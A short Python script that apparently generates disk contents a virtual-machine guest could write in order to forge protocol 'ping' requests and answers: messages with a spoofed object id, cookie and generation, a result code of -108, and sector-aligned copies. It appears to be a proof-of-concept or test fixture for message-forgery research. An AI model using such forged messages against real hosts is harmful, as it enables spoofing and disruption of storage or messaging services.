#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""What a guest would write into its disk to forge pings: whole messages, with everything right that it may know or guess.

    forge.py FOLDER OID COOKIE GEN     FOLDER/answers (4 MiB: an answer with -108 to each of the message numbers from 1 on, over and
                                       over), FOLDER/candidates (64 KiB of what is searched for, as dense as it goes), and
                                       FOLDER/ping-1 to ping-64 (a sector each: a ping, with a header and without)
"""
import struct
import sys

folder, oid, cookie, gen = sys.argv[1], sys.argv[2].encode(), int(sys.argv[3], 0), int(sys.argv[4])


def head(kind, tid):
    """Preamble, header of a message (41 bytes: seq, tid, type ...), its checksum."""
    return bytes([0x11]) + bytes(31) + struct.pack("<QQH", 7, tid, kind) + bytes(23) + bytes(4)


def name():
    return struct.pack("<I", len(oid)) + oid


def operation(op=7):
    return struct.pack("<HIQQBII", 0x220F, 0, cookie, 0, op, gen, 0) + bytes(7)


def request(tid):
    return head(42, tid) + bytes(133) + name() + struct.pack("<H", 1) + operation()


def answer(tid, result=-108):
    pg = struct.pack("<BQIi", 1, 2, 0xFFFFFF, -1)
    return head(43, tid) + name() + pg + bytes(8) + struct.pack("<i", result) + bytes(12) + struct.pack("<II", 11, 1) + operation()


def main():
    with open(folder + "/answers", "wb") as out:
        data = bytearray()
        tid = 0
        while len(data) < 4 << 20:
            tid = tid % 20000 + 1
            data += answer(tid)[32:]
        out.write(data[: 4 << 20])
    with open(folder + "/candidates", "wb") as out:
        out.write((b"\xff\xff\xff\xff" + bytes(8) + struct.pack("<i", -108) + bytes(12) + struct.pack("<II", 11, 1) + operation()) * 1000)
    for i in range(1, 65):
        sector = (request(i) if i % 2 else request(i)[77:]) + bytes(512)
        with open("%s/ping-%d" % (folder, i), "wb") as out:
            out.write((bytes(i % 16) + sector)[:512])


main()
